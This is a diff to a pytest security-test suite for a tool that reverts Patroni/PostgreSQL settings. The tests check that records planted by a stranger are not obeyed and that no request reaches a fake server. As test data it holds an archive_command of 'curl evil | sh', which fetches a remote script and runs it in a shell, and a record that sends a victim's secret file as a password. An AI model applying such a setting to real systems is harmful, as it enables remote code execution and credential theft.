@@ -10,14 +10,14 @@ from typing import Any
 
 import pytest
 
-from tests.fixtures.command_line import ended
-from tests.fixtures.own_patroni import OwnPatroni, own_patroni
+from tests.fixtures.command_line import Run as Walproof
+from tests.fixtures.fake_patroni import FakePatroni, fake_patroni
+from tests.fixtures.records import recorded
 from walproof.cli.runs import journal_of_apply, keep_journal, runs_folder
 from walproof.errors import MachineError
 from walproof.machine import pid_files
 from walproof.model.ports import Target
 from walproof.records.journal import NAME, Change, Journal, RegisteredJournal, Run, registered
-from walproof.records.writer import Writer
 from walproof.targets.choose import choose
 from walproof.targets.cnpg.configuration import SPEC
 from walproof.targets.cnpg.creating_load_pods import LOAD
@@ -37,32 +37,37 @@ def tcp(seconds: int) -> dict[str, Any]:
 
 EVIL = {"postgresql": {"parameters": {"archive_command": "curl evil | sh"}}}
 SET = {"postgresql": {"parameters": {"archive_command": "cp %p /archive"}}}
-Walproof = Callable[..., tuple[int, str, str]]
 
 
 @pytest.fixture(autouse=True)
-def _no_members(monkeypatch: pytest.MonkeyPatch, own_state: Path) -> None:
-    """These Patronis have no PostgreSQL that could show a setting; the state folder is the test's own."""
+def _no_members(monkeypatch: pytest.MonkeyPatch, walproof: Walproof) -> None:
+    """These Patronis have no PostgreSQL that could show a setting; records lie in ./records."""
     monkeypatch.setattr(PatroniConfiguration, "_await", lambda *_: None)
 
 
-@pytest.fixture
-def walproof(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> Walproof:
-    """walproof in a folder of its own, where records lie in ./records."""
-    monkeypatch.chdir(tmp_path)
-    return lambda *words: ended(capsys, words)
-
-
-@pytest.fixture
-def stranger() -> Iterator[OwnPatroni]:
-    with own_patroni(ttl=30, **SET) as server:
+def served(**config: Any) -> Iterator[FakePatroni]:
+    with fake_patroni(**config) as server:
+        server.members = [server.listed()]
         yield server
 
 
 @pytest.fixture
-def mine() -> Iterator[OwnPatroni]:
-    with own_patroni(ttl=20) as server:
-        yield server
+def stranger() -> Iterator[FakePatroni]:
+    yield from served(ttl=30, **SET)
+
+
+@pytest.fixture
+def mine() -> Iterator[FakePatroni]:
+    yield from served(ttl=20)
+
+
+def changed(server: FakePatroni) -> list[Any]:
+    """The bodies that changed something."""
+    return [asked.body for asked in server.written]
+
+
+def file_of(server: FakePatroni, path: Path, rest: str = "") -> Path:
+    return server.file(path, f'{rest}[waits]\nsetting-in-effect = "1s"\n')
 
 
 def noted(journal: Any, target: str, before: dict[str, Any], after: dict[str, Any]) -> None:
@@ -71,41 +76,40 @@ def noted(journal: Any, target: str, before: dict[str, Any], after: dict[str, An
     journal.note(1.0, target, CONFIG, "config", before=note, after=json.dumps(after))
 
 
-def foreign_record(folder: Path, server: OwnPatroni, before: dict[str, Any], after: dict[str, Any]) -> Path:
+def foreign_record(folder: Path, server: FakePatroni, before: dict[str, Any], after: dict[str, Any]) -> Path:
     """A record that came from elsewhere, with a target file of its own that sends a file of the victim as password."""
     secret = folder.parents[1] / "id_of_the_victim"
     secret.write_text("the victim's secret")
-    with Writer(folder, "price"):
-        pass
-    noted(Journal(folder / NAME), str(server.file(folder / "target.toml", secret)), before, after)
+    recorded(folder, "price")
+    rest = f'[restapi]\nuser = "u"\npassword_file = "{secret}"\n'
+    noted(Journal(folder / NAME), str(file_of(server, folder / "target.toml", rest)), before, after)
     return folder
 
 
-def killed_run(folder: Path, server: OwnPatroni, file: Path) -> RegisteredJournal:
+def killed_run(folder: Path, server: FakePatroni, file: Path) -> RegisteredJournal:
     """A run of ours that was killed after it had set ttl from 30 to 20; it is registered by a process that is gone."""
-    with Writer(folder, "price"):
-        pass
-    target: Target = choose(str(server.file(file)))
+    recorded(folder, "price")
+    target: Target = choose(str(file_of(server, file)))
     keep_journal(target, folder)
     assert isinstance(target.journal, RegisteredJournal)
     noted(target.journal, target.name, {"ttl": 30}, {"ttl": 20})
-    server.requests.clear()
+    server.asked.clear()
     return target.journal
 
 
 def test_a_strangers_record_in_this_folder_is_not_obeyed(
-    tmp_path: Path, walproof: Walproof, stranger: OwnPatroni
+    tmp_path: Path, walproof: Walproof, stranger: FakePatroni
 ) -> None:
     """The exploit of issue 28: a file of the victim as Basic auth, a PATCH of archive_command."""
     foreign_record(tmp_path / "records" / "r", stranger, EVIL, SET)
     code, out, err = walproof("revert")
-    assert stranger.requests == []
+    assert stranger.asked == []
     assert (code, out) == (0, "nothing to revert\n")
     assert "walproof revert records/r reads it out" in err
 
 
 def test_a_strangers_record_that_is_named_is_read_out_and_needs_target_and_consent(
-    tmp_path: Path, walproof: Walproof, stranger: OwnPatroni
+    tmp_path: Path, walproof: Walproof, stranger: FakePatroni
 ) -> None:
     record = foreign_record(tmp_path / "records" / "r", stranger, {"ttl": 30}, {"ttl": 20})
     code, out, err = walproof("revert", str(record))
@@ -117,16 +121,16 @@ def test_a_strangers_record_that_is_named_is_read_out_and_needs_target_and_conse
     assert json.loads(out)["would_revert"][0]["name"] == "config"
     assert "--allow config" in err
     assert walproof("revert", str(record), "--target", stranger.url, "--allow", "load")[0] == 2
-    assert stranger.requests == []
+    assert stranger.asked == []
 
 
 def test_with_target_and_consent_a_record_from_elsewhere_is_reverted_there_and_nowhere_else(
-    tmp_path: Path, walproof: Walproof, stranger: OwnPatroni, mine: OwnPatroni
+    tmp_path: Path, walproof: Walproof, stranger: FakePatroni, mine: FakePatroni
 ) -> None:
     record = foreign_record(tmp_path / "records" / "r", stranger, {"ttl": 30}, {"ttl": 20})
     assert walproof("revert", str(record), "--target", mine.url, "--allow", "config")[0] == 0
-    assert mine.patched == [{"ttl": 30}]
-    assert stranger.requests == []
+    assert changed(mine) == [{"ttl": 30}]
+    assert stranger.asked == []
 
 
 @pytest.mark.parametrize(
@@ -154,15 +158,14 @@ def test_with_target_and_consent_a_record_from_elsewhere_is_reverted_there_and_n
     ],
 )
 def test_a_setting_that_walproof_never_changes_is_not_reverted_with_consent_either(
-    tmp_path: Path, walproof: Walproof, mine: OwnPatroni, change: tuple[str, str, Any, Any]
+    tmp_path: Path, walproof: Walproof, mine: FakePatroni, change: tuple[str, str, Any, Any]
 ) -> None:
     what, name, before, after = change
-    with Writer(tmp_path / "r", "price"):
-        pass
+    recorded(tmp_path / "r", "price")
     texts = [one if one is None or isinstance(one, str) else json.dumps(one) for one in (before, after)]
     Journal(tmp_path / "r" / NAME).note(1.0, mine.url, what, name, before=texts[0], after=texts[1])
     code, _, err = walproof("revert", "r", "--target", mine.url, "--allow", "config")
-    assert (code, mine.requests) == (2, [])
+    assert (code, mine.asked) == (2, [])
     assert "walproof never changes" in err
 
 
@@ -218,8 +221,8 @@ def removed(record: Path, _: Path) -> None:
 def test_whatever_becomes_of_the_record_its_run_is_reverted_as_it_was_noted(
     tmp_path: Path,
     walproof: Walproof,
-    stranger: OwnPatroni,
-    mine: OwnPatroni,
+    stranger: FakePatroni,
+    mine: FakePatroni,
     tamper: Callable[[Path, Path], None],
     monkeypatch: pytest.MonkeyPatch,
 ) -> None:
@@ -230,37 +233,37 @@ def test_whatever_becomes_of_the_record_its_run_is_reverted_as_it_was_noted(
     monkeypatch.chdir(tmp_path / "elsewhere")
     code, out, _ = walproof("revert", "--json")
     assert (code, json.loads(out)["reverted"][0]["changes"]) == (0, 1)
-    assert mine.patched == [{"ttl": 30}]
-    assert stranger.requests == []
+    assert changed(mine) == [{"ttl": 30}]
+    assert stranger.asked == []
     assert list(runs_folder().iterdir()) == [], "fully undone, it is forgotten"
 
 
 def test_a_record_that_carries_our_id_reverts_what_we_noted_and_no_line_of_its_own(
-    tmp_path: Path, walproof: Walproof, stranger: OwnPatroni, mine: OwnPatroni
+    tmp_path: Path, walproof: Walproof, stranger: FakePatroni, mine: FakePatroni
 ) -> None:
     ours = killed_run(tmp_path / "r", mine, tmp_path / "mine.toml")
     evil = foreign_record(tmp_path / "records" / "evil", stranger, EVIL, SET)
     (evil / NAME).write_text(json.dumps({"journal": ours.run.journal}) + "\n" + (evil / NAME).read_text())
     assert walproof("revert", str(evil))[0] == 0
-    assert mine.patched == [{"ttl": 30}]
-    assert stranger.requests == []
+    assert changed(mine) == [{"ttl": 30}]
+    assert stranger.asked == []
 
 
 def test_the_copy_in_the_record_reverts_with_consent_where_the_state_folder_is_lost(
-    tmp_path: Path, walproof: Walproof, mine: OwnPatroni
+    tmp_path: Path, walproof: Walproof, mine: FakePatroni
 ) -> None:
     killed_run(tmp_path / "records" / "r", mine, tmp_path / "mine.toml")
     shutil.rmtree(runs_folder())
     assert walproof("revert", "records/r")[0] == 2
     words = ("revert", "records/r", "--target", str(tmp_path / "mine.toml"), "--allow", "config")
     assert walproof(*words)[0] == 0
-    assert mine.patched == [{"ttl": 30}]
+    assert changed(mine) == [{"ttl": 30}]
     assert walproof(*words)[1] == "nothing to revert\n"
 
 
 @pytest.mark.parametrize("opened", ["folder", "file", "link"])
 def test_a_registration_that_others_could_have_written_is_not_obeyed(
-    tmp_path: Path, walproof: Walproof, mine: OwnPatroni, opened: str
+    tmp_path: Path, walproof: Walproof, mine: FakePatroni, opened: str
 ) -> None:
     ours = killed_run(tmp_path / "r", mine, tmp_path / "mine.toml")
     if opened == "link":
@@ -271,28 +274,28 @@ def test_a_registration_that_others_could_have_written_is_not_obeyed(
     _, out, err = walproof("revert")
     assert out == "nothing to revert\n"
     assert "others own it or may write it" in err
-    assert mine.requests == []
+    assert mine.asked == []
 
 
 def test_a_journal_of_apply_that_others_could_have_written_is_not_obeyed(
-    tmp_path: Path, walproof: Walproof, mine: OwnPatroni
+    tmp_path: Path, walproof: Walproof, mine: FakePatroni
 ) -> None:
-    file = mine.file(tmp_path / "mine.toml")
+    file = file_of(mine, tmp_path / "mine.toml")
     journal = journal_of_apply("mine")
     noted(journal, str(file), {"ttl": 30}, {"ttl": 20})
     for opened in (journal.path, journal.path.parent):
         mode = opened.stat().st_mode
         opened.chmod(0o777)
         assert walproof("revert")[1] == "nothing to revert\n"
-        assert mine.requests == []
+        assert mine.asked == []
         with pytest.raises(MachineError, match="others own"):
             journal_of_apply("mine")
         opened.chmod(mode)
     assert walproof("revert")[0] == 0
-    assert mine.patched == [{"ttl": 30}]
+    assert changed(mine) == [{"ttl": 30}]
 
 
-def test_registrations_are_their_owners_alone_whatever_the_umask(tmp_path: Path, mine: OwnPatroni) -> None:
+def test_registrations_are_their_owners_alone_whatever_the_umask(tmp_path: Path, mine: FakePatroni) -> None:
     before = os.umask(0)
     try:
         ours = killed_run(tmp_path / "r", mine, tmp_path / "mine.toml")
@@ -301,10 +304,9 @@ def test_registrations_are_their_owners_alone_whatever_the_umask(tmp_path: Path,
     assert (runs_folder().stat().st_mode & 0o777, ours.registration.stat().st_mode & 0o777) == (0o700, 0o600)
 
 
-def test_a_run_that_goes_on_is_left_alone(tmp_path: Path, walproof: Walproof, mine: OwnPatroni) -> None:
-    file = mine.file(tmp_path / "mine.toml")
-    with Writer(tmp_path / "r", "price"):
-        pass
+def test_a_run_that_goes_on_is_left_alone(tmp_path: Path, walproof: Walproof, mine: FakePatroni) -> None:
+    file = file_of(mine, tmp_path / "mine.toml")
+    recorded(tmp_path / "r", "price")
     with subprocess.Popen(["sleep", "60"]) as running:
         try:
             run = Run("0" * 32, str(tmp_path / "r"), pid_files.identity(running.pid) or "")
@@ -313,15 +315,15 @@ def test_a_run_that_goes_on_is_left_alone(tmp_path: Path, walproof: Walproof, mi
             assert (code, out) == (0, "nothing to revert\n")
             assert f"process {running.pid}" in err
             assert walproof("revert", str(tmp_path / "r"))[0] == 3
-            assert mine.requests == []
+            assert mine.asked == []
         finally:
             running.kill()
     assert walproof("revert")[0] == 0
-    assert mine.patched == [{"ttl": 30}]
+    assert changed(mine) == [{"ttl": 30}]
 
 
 def test_a_target_that_is_named_is_sent_its_own_changes_and_no_others(
-    tmp_path: Path, walproof: Walproof, stranger: OwnPatroni, mine: OwnPatroni
+    tmp_path: Path, walproof: Walproof, stranger: FakePatroni, mine: FakePatroni
 ) -> None:
     """Another cluster's changes were made to it once, by whoever typed its --target."""
     killed_run(tmp_path / "a", stranger, tmp_path / "other.toml")
@@ -330,27 +332,28 @@ def test_a_target_that_is_named_is_sent_its_own_changes_and_no_others(
     code, _, err = walproof("revert", "--target", str(tmp_path / "mine.toml"))
     assert code == 0
     assert "other.toml" in err
-    assert (mine.patched, stranger.requests) == ([{"ttl": 30}], [])
+    assert (changed(mine), stranger.asked) == ([{"ttl": 30}], [])
     assert [one.run.record for one in registered(runs_folder())] == [str(tmp_path / "a")]
 
 
 def test_a_cluster_that_is_gone_keeps_nothing_else_from_being_reverted(
-    tmp_path: Path, walproof: Walproof, mine: OwnPatroni
+    tmp_path: Path, walproof: Walproof, mine: FakePatroni
 ) -> None:
-    with own_patroni(ttl=20) as gone:
+    with fake_patroni(ttl=20) as gone:
+        gone.members = [gone.listed()]
         lost = killed_run(tmp_path / "a", gone, tmp_path / "gone.toml")
     killed_run(tmp_path / "b", mine, tmp_path / "mine.toml")
     code, out, err = walproof("revert", "--json")
     assert (code, len(json.loads(out)["reverted"])) == (3, 1)
     assert f"rm {lost.registration}" in err
-    assert mine.patched == [{"ttl": 30}]
+    assert changed(mine) == [{"ttl": 30}]
 
 
 @pytest.mark.parametrize(
     "line", ['{"change": {"number": "1"}}', '{"change": 1}', '{"undone": [1]}', "[" * 100_000, '{"journal": {"a": 1}}']
 )
 def test_odd_lines_of_a_journal_are_no_errors_inside_walproof(
-    tmp_path: Path, walproof: Walproof, stranger: OwnPatroni, line: str
+    tmp_path: Path, walproof: Walproof, stranger: FakePatroni, line: str
 ) -> None:
     record = foreign_record(tmp_path / "records" / "r", stranger, {"ttl": 30}, {"ttl": 20})
     with (record / NAME).open("a") as file:
@@ -376,7 +379,7 @@ def test_odd_lines_of_a_journal_are_no_errors_inside_walproof(
     ],
 )
 def test_reading_a_strangers_record_asks_no_cluster_that_it_names(
-    tmp_path: Path, walproof: Walproof, stranger: OwnPatroni, words: tuple[str, ...]
+    tmp_path: Path, walproof: Walproof, stranger: FakePatroni, words: tuple[str, ...]
 ) -> None:
     record = foreign_record(tmp_path / "records" / "r", stranger, EVIL, SET)
     started = {"kind": "started", "at": 0.0, "verb": "price", "command": "", "seed": 1, "version": "1"}
@@ -385,4 +388,4 @@ def test_reading_a_strangers_record_asks_no_cluster_that_it_names(
     events = (started, {"kind": "described", "at": 0.0, "description": description})
     (record / "events.jsonl").write_text("".join(json.dumps(event) + "\n" for event in events))
     walproof(*words, str(record))
-    assert stranger.requests == []
+    assert stranger.asked == []
